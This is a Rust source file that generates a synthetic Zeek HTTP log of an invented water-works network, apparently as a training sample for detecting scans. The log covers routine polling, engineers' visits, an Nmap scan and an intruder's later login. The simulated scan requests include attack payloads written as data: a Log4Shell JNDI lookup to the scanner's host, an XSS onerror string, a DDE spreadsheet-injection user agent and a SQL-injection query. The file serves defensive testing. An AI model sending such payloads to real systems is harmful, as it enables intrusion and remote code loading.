//! The training sample: a working day in an invented water works, with a scan in it.
//!
//! An operator's page polls its server all day, engineers look at their devices, and a contractor's laptop scans: loudly before
//! noon, and then comes back as a person and logs in. Later something else probes a few devices and says no name at all. All
//! names and addresses are made up. Invariant: what the tests of the sample and the walk in the README count is in here.

use super::endpoints::MORNING;
use super::random::{Random, identifier, mix};
use super::record::{HTTP, Line, header};

/// The client with the scripting engine's name.
pub const LOUD: &str = "10.20.10.77";
/// The client that only probes services.
pub const QUIET: &str = "10.20.10.90";

const OPERATOR: &str = "10.20.10.21";
const ENGINEER: &str = "10.20.10.35";
const COLLEAGUE: &str = "10.20.10.36";
const OLD_STATION: &str = "10.20.10.52";
const HMI: &str = "10.20.40.10";
const GATEWAY: &str = "10.20.40.51";

const CHROME: &str =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 Safari/537.36";
const FIREFOX_ESR: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:102.0) Gecko/20100101 Firefox/102.0";
const FIREFOX: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0";
const EXPLORER: &str = "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0)";
const NSE: &str = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)";
const WGET: &str = "Wget/1.21.3";

/// A device, what it answers to a page that it lacks, and to a method that it lacks.
struct Device {
    address: &'static str,
    missing: Status,
    refused: Status,
    pages: &'static [&'static str],
}

type Status = Option<(u64, &'static str)>;

const OK: Status = Some((200, "OK"));
const NOTHING_NEW: Status = Some((204, "No Content"));
const FOUND: Status = Some((302, "Redirect"));
const BAD: Status = Some((400, "Bad Request"));
const LOGIN: Status = Some((401, "Unauthorized"));
const MISSING: Status = Some((404, "Not Found"));
const NOT_ALLOWED: Status = Some((405, "Method Not Allowed"));
const NOT_BUILT: Status = Some((501, "Not Implemented"));

const fn device(address: &'static str, missing: Status, refused: Status, pages: &'static [&'static str]) -> Device {
    Device { address, missing, refused, pages }
}

const DEVICES: &[Device] = &[
    device(HMI, MISSING, NOT_ALLOWED, &["/", "/overview.html", "/css/plant.css", "/js/trend.js", "/img/pump_on.gif"]),
    device("10.20.40.20", FOUND, NOT_ALLOWED, &["/", "/device.htm", "/ports.htm", "/img/led.gif", "/style.css"]),
    device("10.20.40.21", FOUND, BAD, &["/", "/device.htm", "/ports.htm", "/img/led.gif", "/style.css"]),
    device("10.20.40.25", LOGIN, NOT_BUILT, &["/"]),
    device("10.20.40.30", MISSING, NOT_BUILT, &["/", "/view/camera.shtml", "/mjpg/stream.mjpg"]),
    device(GATEWAY, MISSING, BAD, &["/", "/login.asp", "/serial.asp", "/network.asp", "/images/logo.gif"]),
    device("10.20.40.60", BAD, BAD, &["/", "/auth/login.asp", "/auth/md5.js"]),
    device("10.20.40.61", BAD, None, &["/", "/auth/login.asp", "/auth/md5.js"]),
    device("10.20.40.90", None, NOT_BUILT, &["/", "/meter.xml"]),
    device("10.20.40.95", NOT_ALLOWED, BAD, &["/"]),
];

/// One request and its answer, before it has connection and order.
struct Exchange {
    at: u64,
    client: &'static str,
    server: &'static str,
    method: &'static str,
    uri: String,
    agent: Option<&'static str>,
    status: Status,
    /// Cells that only some requests have, by field.
    extra: Vec<(&'static str, &'static str)>,
    /// Number of a poll: forty polls share a connection.
    turn: Option<u64>,
}

struct Day {
    random: Random,
    exchanges: Vec<Exchange>,
}

/// The whole log.
pub fn tell() -> Vec<u8> {
    let mut day = Day { random: Random::new(1), exchanges: Vec::new() };
    day.polling();
    day.engineers();
    day.loud_scan();
    day.after_the_scan();
    day.quiet_scan();
    day.write()
}

fn clock(hours: u64, minutes: u64, seconds: u64) -> u64 {
    MORNING + ((hours - 6) * 3600 + minutes * 60 + seconds) * 1_000_000
}

impl Day {
    fn ask(
        &mut self,
        at: u64,
        client: &'static str,
        server: &'static str,
        line: (&'static str, &str),
        agent: Option<&'static str>,
        status: Status,
    ) -> &mut Exchange {
        let exchange = Exchange {
            at,
            client,
            server,
            method: line.0,
            uri: line.1.to_owned(),
            agent,
            status,
            extra: Vec::new(),
            turn: None,
        };
        self.exchanges.push(exchange);
        let last = self.exchanges.len() - 1;
        &mut self.exchanges[last]
    }

    /// A person's browser opens a device and what belongs to its pages.
    fn visit(&mut self, at: u64, client: &'static str, device: &Device, agent: &'static str) {
        let mut at = at;
        for page in device.pages {
            let status = if *page == "/" && device.missing == FOUND { FOUND } else { OK };
            self.ask(at, client, device.address, ("GET", page), Some(agent), status);
            at += 80_000 + self.random.below(4_000_000);
        }
        let icon = if self.random.one_in(3) { None } else { device.missing };
        self.ask(at, client, device.address, ("GET", "/favicon.ico"), Some(agent), icon);
    }

    fn polling(&mut self) {
        // Every 18 s, and a little pause for the shift change at ten.
        for turn in 0..1600 {
            let at = clock(6, 0, 12) + turn * 18_000_000 + self.random.below(9_000);
            if (clock(10, 0, 0)..clock(10, 4, 0)).contains(&at) {
                continue;
            }
            let uri = format!("/getstatus.html&sid=0.{:010}", self.random.below(10_000_000_000));
            let status = if self.random.one_in(12) { OK } else { NOTHING_NEW };
            self.ask(at, OPERATOR, HMI, ("GET", &uri), Some(CHROME), status).turn = Some(turn);
        }
        for turn in 0..140 {
            let at = clock(9, 10, 0) + turn * 15_000_000 + self.random.below(60_000);
            self.ask(at, COLLEAGUE, GATEWAY, ("GET", "/serial.asp?refresh_rate=15"), Some(FIREFOX_ESR), OK);
        }
    }

    fn engineers(&mut self) {
        for round in 0..14 {
            for (client, agent) in [(ENGINEER, FIREFOX), (OPERATOR, CHROME), (COLLEAGUE, FIREFOX_ESR)] {
                let at = clock(6, 20, 0) + round * 1_900_000_000 + self.random.below(1_500_000_000);
                let which = self.random.below(DEVICES.len() as u64) as usize;
                self.visit(at, client, &DEVICES[which], agent);
            }
        }
        self.visit(clock(7, 41, 5), OLD_STATION, &DEVICES[0], EXPLORER);
        self.ask(clock(8, 2, 31), COLLEAGUE, "10.20.40.30", ("GET", "/firmware/readme.txt"), Some(WGET), OK);
        self.ask(clock(8, 30, 9), ENGINEER, HMI, ("GET", r"/berichte/\xc3\x9cbersicht_Mai.html"), Some(FIREFOX), OK);
        self.ask(clock(8, 31, 40), ENGINEER, HMI, ("GET", r"/berichte/Schicht\x09eins.html"), Some(FIREFOX), MISSING);
        self.ask(clock(9, 3, 17), OLD_STATION, "10.20.40.90", ("GET", "/meter.xml"), Some("(empty)"), OK);
        self.ask(clock(9, 3, 19), OLD_STATION, "10.20.40.90", ("GET", "/meter.xml"), None, OK)
            .extra
            .push(("host", "(empty)"));
        for (second, status) in [(0, LOGIN), (9, OK)] {
            let asked =
                self.ask(clock(9, 20, second), ENGINEER, "10.20.40.25", ("GET", "/setup"), Some(FIREFOX), status);
            if status == OK {
                asked.extra.extend([("username", "service"), ("password", "-")]);
            }
        }
        // A form that the monitoring of the works mistakes for an attack.
        self.ask(clock(9, 44, 2), ENGINEER, HMI, ("GET", "/trend?where=1=1--"), Some(FIREFOX), OK)
            .extra
            .push(("tags", "HTTP::URI_SQLI"));
    }

    /// The scripting engine over all devices, with the probes of version detection before it.
    fn loud_scan(&mut self) {
        for (number, device) in DEVICES.iter().enumerate() {
            let mut at = clock(10, 42, 3) + number as u64 * 700_000;
            let mut step = |day: &mut Day| {
                at += 150_000 + day.random.below(2_500_000);
                at
            };
            if number % 3 == 0 {
                self.probes(&mut step, LOUD, device);
            }
            let known = |page: &str| if device.pages.contains(&page) { OK } else { device.missing };
            for page in ["/", "/", "/robots.txt", "/.git/HEAD", "/favicon.ico", "/nmaplowercheck1715683331", "/HNAP1"] {
                let at = step(self);
                self.ask(at, LOUD, device.address, ("GET", page), Some(NSE), known(page));
            }
            for _ in 0..4 {
                let at = step(self);
                self.ask(at, LOUD, device.address, ("OPTIONS", "/"), Some(NSE), device.refused);
            }
            let at = step(self);
            self.ask(at, LOUD, device.address, ("QXVD", "/"), Some(NSE), device.refused);
            if device.address == GATEWAY || device.address == HMI {
                for page in ["/flumemaster.jsp", "/dfshealth.jsp", "/jobtracker.jsp", "/rs-status", "/master.jsp"] {
                    let at = step(self);
                    self.ask(at, LOUD, device.address, ("GET", page), Some(NSE), device.missing);
                }
                let at = step(self);
                self.ask(at, LOUD, device.address, ("t3", "12.1.2"), None, device.refused).extra.push(("host", "-"));
            }
        }
        let tries: [(&str, &str); 3] = [
            (HMI, r#"/search?q=<img src=x onerror=alert(document.title)><b>\x22"#),
            (HMI, r"/search?q=\xe2\x80\xaelmth.siht\xe2\x80\xac"),
            (GATEWAY, "/login.asp?user=${jndi:ldap://10.20.10.77/a}"),
        ];
        for (number, (server, uri)) in tries.into_iter().enumerate() {
            let at = clock(10, 47, 10 + 4 * number as u64);
            self.ask(at, LOUD, server, ("GET", uri), Some("=cmd|' /C calc'!A0"), MISSING);
        }
    }

    /// What version detection sends: no agent, no host.
    fn probes(&mut self, step: &mut dyn FnMut(&mut Day) -> u64, client: &'static str, device: &Device) {
        let first = if device.missing == FOUND { FOUND } else { OK };
        for (line, status) in [
            (("GET", "/"), first),
            (("OPTIONS", "/"), device.refused),
            (("OPTIONS", "/ RTSP/1."), None),
            (("GET", "/nice ports,/Trinity.txt.bak"), device.missing),
            (("OPTIONS", "sip:nm SIP/2."), None),
        ] {
            let at = step(self);
            self.ask(at, client, device.address, line, None, status).extra.push(("host", "-"));
        }
    }

    /// The person behind the scan comes back with a browser and gets in.
    fn after_the_scan(&mut self) {
        let gateway = &DEVICES[5];
        self.visit(clock(10, 54, 40), LOUD, gateway, FIREFOX_ESR);
        for (second, status) in [(2, OK), (21, OK), (39, FOUND)] {
            self.ask(clock(10, 55, second), LOUD, GATEWAY, ("POST", "/goform/Login"), Some(FIREFOX_ESR), status);
        }
        for (second, page) in [(41, "/home.asp"), (44, "/network.asp"), (58, "/serial.asp")] {
            self.ask(clock(10, 55, second), LOUD, GATEWAY, ("GET", page), Some(FIREFOX_ESR), OK);
        }
        self.ask(clock(10, 57, 12), LOUD, GATEWAY, ("POST", "/goform/Network"), Some(FIREFOX_ESR), FOUND);
        self.ask(clock(10, 58, 3), LOUD, "10.20.40.30", ("HELLO", "/view/"), Some(FIREFOX_ESR), NOT_BUILT);
        self.ask(clock(10, 58, 30), LOUD, "10.20.40.30", ("PUT", "/view/"), Some(FIREFOX_ESR), NOT_BUILT);
    }

    fn quiet_scan(&mut self) {
        for (number, device) in DEVICES.iter().enumerate().filter(|(number, _)| number % 2 == 1) {
            let mut at = clock(12, 15, 0) + number as u64 * 41_000_000;
            let mut step = |day: &mut Day| {
                at += 5_000_000 + day.random.below(2_000_000);
                at
            };
            self.probes(&mut step, QUIET, device);
        }
    }

    fn write(mut self) -> Vec<u8> {
        // Zeek writes a request when it is over, so the order is not that of `ts`.
        let mut order: Vec<(u64, usize)> = Vec::with_capacity(self.exchanges.len());
        for (number, exchange) in self.exchanges.iter().enumerate() {
            let length = if self.random.one_in(40) { 20_000_000 } else { 400_000 };
            order.push((exchange.at + self.random.below(length), number));
        }
        order.sort_unstable();
        let mut line = Line { bytes: header("http", "2024-05-14-06-00-00", HTTP) };
        for (number, (_, exchange)) in order.into_iter().enumerate() {
            record(&mut line, &self.exchanges[exchange], number as u64, &mut self.random);
        }
        line.bytes.extend_from_slice(b"#close\t2024-05-14-14-05-00\n");
        line.bytes
    }
}

fn record(line: &mut Line, exchange: &Exchange, number: u64, random: &mut Random) {
    let extra = |field: &str| exchange.extra.iter().find(|(name, _)| *name == field).map(|(_, value)| *value);
    let answered = exchange.status == OK || matches!(exchange.status, Some((404, _)));
    let posted = exchange.method == "POST";
    let file =
        |direction: u64| String::from_utf8_lossy(&identifier(b'F', number * 2 + direction, mix(!number))).into_owned();
    line.seconds(exchange.at);
    // Numbers of connections from 1, those of the polls far above.
    let (connection, depth) = exchange.turn.map_or((number + 1, 1), |turn| (100_000 + turn / 40, 1 + turn % 40));
    line.cell(&identifier(b'C', connection, mix(!connection)));
    line.cell(exchange.client.as_bytes());
    line.number(49_152 + mix(connection) % 16_000);
    line.cell(exchange.server.as_bytes());
    line.number(80);
    line.number(depth);
    line.cell(exchange.method.as_bytes());
    line.cell(extra("host").unwrap_or(exchange.server).as_bytes());
    line.cell(exchange.uri.as_bytes());
    line.cell(b"-");
    line.cell(if extra("host").is_some() { b"1.0" } else { b"1.1" });
    line.optional(exchange.agent);
    line.cell(b"-");
    line.number(if posted { 40 + random.below(30) } else { 0 });
    line.number(if answered { 120 + random.below(6_000) } else { 0 });
    match exchange.status {
        Some((code, message)) => {
            line.number(code);
            line.cell(message.as_bytes());
        }
        None => line.cell(b"-\t-"),
    }
    line.cell(b"-\t-");
    line.cell(extra("tags").unwrap_or("(empty)").as_bytes());
    line.optional(extra("username"));
    line.optional(extra("password"));
    line.cell(b"-");
    line.optional(posted.then(|| file(0)).as_deref());
    line.cell(b"-");
    line.optional(posted.then_some("text/plain"));
    line.optional(answered.then(|| file(1)).as_deref());
    line.cell(b"-");
    line.optional(answered.then_some(if exchange.uri.ends_with(".gif") { "image/gif" } else { "text/html" }));
    line.end();
}
